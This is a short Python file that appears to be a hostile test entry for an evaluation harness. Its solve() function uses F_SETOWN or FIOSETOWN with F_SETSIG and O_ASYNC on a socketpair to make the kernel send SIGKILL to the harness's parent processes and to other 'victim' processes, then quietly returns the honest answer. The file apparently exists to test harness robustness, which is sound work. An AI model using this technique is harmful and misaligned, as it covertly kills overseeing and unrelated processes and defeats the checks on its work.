"""Makes those who started it, and strangers, the owners of a descriptor that sends SIGKILL once there is something to read."""
# expect: ok|crash
# score: 0.1
import fcntl
import os
import socket
import struct

import arms

F_SETSIG, FIOSETOWN, SIGKILL = 10, 0x8901, 9


def solve(x, look):
    targets = arms.elders() + arms.victims()
    targets += [-target for target in targets]
    for target in targets:
        for own in (
            lambda end: fcntl.fcntl(end, fcntl.F_SETOWN, target),  # noqa: B023
            lambda end: fcntl.ioctl(end, FIOSETOWN, struct.pack("i", target)),  # noqa: B023
        ):
            one, other = socket.socketpair()
            try:
                own(one)
                fcntl.fcntl(one, F_SETSIG, SIGKILL)
                fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC)
            except OSError:
                continue
            other.send(b"!")
            other.send(b"!", socket.MSG_OOB)
    return arms.honest(x)
